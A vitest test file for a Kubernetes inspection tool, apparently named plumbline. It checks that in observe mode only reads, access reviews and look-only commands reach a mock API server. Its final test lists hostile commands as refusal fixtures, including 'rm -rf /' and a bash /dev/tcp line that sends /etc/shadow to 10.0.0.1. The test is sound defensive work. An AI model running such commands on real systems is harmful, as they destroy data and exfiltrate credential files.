import { afterAll, beforeAll, expect, it } from 'vitest';
import { openCluster } from '../../../src/cluster-worker/open-cluster.ts';
import type { Cluster, ContainerTarget } from '../../../src/contracts/cluster.ts';
import type { Endpoint } from '../../../src/contracts/endpoint.ts';
import type { ViewKind } from '../../../src/inventory/views.ts';
import { endSleeperArgv } from '../../../src/reach/ladder/sleeper.ts';
import { type ApiServer, type Asked, sendJson, sendStatus, startApiServer } from '../../support/api-server.ts';
import { kubeconfigText, type TestFolder, testFolder } from '../../support/kubeconfig-file.ts';
import { ownCommands } from '../../support/own-commands.ts';
import { TestCluster } from '../../support/test-cluster.ts';
import { waitUntil } from '../../support/wait-until.ts';

/*
 * A server that records every request while everything that a Cluster can do is done in observe mode: what reaches it
 * are reads, questions about permissions, and programs that look.
 */

const target: ContainerTarget = { namespace: 'shop', pod: 'web-1', container: 'app' };
const pod: Endpoint = { kind: 'pod', namespace: 'shop', name: 'web-1', uid: 'p1' };
const review = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews';

const pods = '/api/v1/namespaces/shop/pods';
/** What the ladder sends in probe mode. */
const helperCalls = [
  { method: 'PATCH', path: `${pods}/web-1/ephemeralcontainers`, intent: { kind: 'create-helper', what: 'a helper' } },
  { method: 'POST', path: pods, intent: { kind: 'create-helper', what: 'a helper' } },
  { method: 'DELETE', path: `${pods}/plumbline-probe-1`, intent: { kind: 'remove-helper', what: 'a helper' } },
] as const;

let server: ApiServer;
let folder: TestFolder;
let cluster: Cluster;

beforeAll(async () => {
  const objects = new TestCluster();
  objects.put('namespaces', { metadata: { name: 'kube-system', uid: 'k1' } });
  objects.put('nodes', { metadata: { name: 'worker-1', uid: 'n1' } });
  objects.put('pods', {
    metadata: { name: 'web-1', namespace: 'shop', uid: 'p1' },
    spec: { nodeName: 'worker-1', containers: [{ name: 'app' }] },
    status: { phase: 'Running', podIP: '10.244.1.5', podIPs: [{ ip: '10.244.1.5' }] },
  });
  server = await startApiServer({
    behaviour: (asked, respond) => {
      if (asked.path === review) sendJson(respond, { status: { allowed: true } }, 201);
      else if (asked.path.endsWith('/log')) respond.writeHead(200).end('2026-11-01T08:00:00Z a line\n');
      else if (asked.path.endsWith('/exec')) sendStatus(respond, 403, 'Forbidden', 'not here');
      else objects.answer(asked, respond);
    },
  });
  folder = await testFolder();
  const contexts = [
    { server: server.url, name: 'one' },
    { server: server.url, name: 'two' },
  ];
  const kubeconfig = await folder.write('config', kubeconfigText(...contexts));
  cluster = openCluster({ kubeconfig, mode: 'observe' });
});

afterAll(async () => {
  await cluster.close();
  await server.close();
  await folder.remove();
});

/** What a request did, in the gate's own terms, but judged here and by nothing of the product. */
function deed({ method, path, query }: Asked): string {
  if (path.endsWith('/exec')) return `exec ${query.getAll('command').join(' ')}`;
  if (/\/(attach|portforward|proxy)(\/|$)/.test(path)) return `act ${path}`;
  if (method === 'GET') return 'read';
  return method === 'POST' && path === review ? 'review' : `change ${method} ${path}`;
}

it('everything a cluster can do in observe mode reaches the server as reads, reviews and programs that look', async () => {
  const kinds: readonly ViewKind[] = ['nodes', 'pods', 'services', 'workloads', 'policies', 'events', 'endpoints'];
  const views = kinds.map((kind) => cluster.view({ kind, filter: '', offset: 0, limit: 10 }));
  await waitUntil('the pod', () => cluster.status.getSnapshot().counts.pods === 1);
  expect(await cluster.find('shop/web-1')).toEqual(pod);
  await cluster.resolve(pod);
  cluster.follow(pod, () => {})();
  await cluster.detail('pod', 'shop', 'web-1');
  await cluster.detail('node', '', 'worker-1');
  await cluster.review({ verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'shop' });
  for await (const _ of cluster.logs(target, { follow: false, tailLines: 5 })) break;
  await cluster.api({ path: '/api/v1/namespaces/shop/pods/web-1', operation: 'read the pod' });
  for (const call of helperCalls) {
    await expect(cluster.api({ ...call, operation: 'make or remove a helper' })).rejects.toMatchObject({
      kind: 'consent',
    });
  }
  const ended = await cluster.runner(target).run(endSleeperArgv('plumbline-debug-1'), { deadline: 5000 }).result;
  expect(ended.end).toMatchObject({ kind: 'failed', error: { errorKind: 'consent' } });
  const commands = ownCommands();
  const runner = cluster.runner(target);
  for (const argv of commands) {
    const { end } = await runner.run(argv, { deadline: 10_000 }).result;
    expect(end, argv.join(' ')).toMatchObject({ kind: 'failed', error: { errorKind: 'forbidden' } });
  }
  await cluster.switchContext('two');
  await waitUntil('the other context', () => cluster.status.getSnapshot().counts.pods === 1);
  for (const view of views) view.close();

  const deeds = [...new Set(server.asked.map(deed))];
  const own = new Set(commands.map((argv) => argv.join(' ')));
  const others = deeds.filter((one) => {
    if (one === 'read' || one === 'review') return false;
    return !(one.startsWith('exec ') && [...own].some((command) => one.endsWith(command)));
  });
  expect(others).toEqual([]);
  expect(deeds).toContain('review');
  expect(deeds.filter((one) => one.startsWith('exec ')).length).toBeGreaterThanOrEqual(own.size);
});

it.each([
  [['rm', '-rf', '/']],
  [['timeout', '5', 'rm', '-rf', '/']],
  [['sh', '-c', 'id']],
  [['bash', '-c', 'exec 3<>/dev/tcp/10.0.0.1/80; cat /etc/shadow >&3']],
  [['curl', '-X', 'DELETE', 'http://10.0.0.1/']],
  [['/tmp/ping', '10.0.0.1']],
])('%j is refused in observe mode with a sentence, and not one request about its pod is sent', async (argv) => {
  const about = () => server.asked.filter(({ path }) => path.includes('/pods/web-1')).length;
  const before = about();
  const { end } = await cluster.runner({ ...target, uid: 'p1' }).run(argv, { deadline: 10_000 }).result;
  expect(end).toMatchObject({
    kind: 'failed',
    error: {
      errorKind: 'consent',
      message: `Running "${argv.join(' ')}", which is not known to only look, needs write mode, and plumbline runs in observe mode.`,
    },
  });
  expect(about()).toBe(before);
});
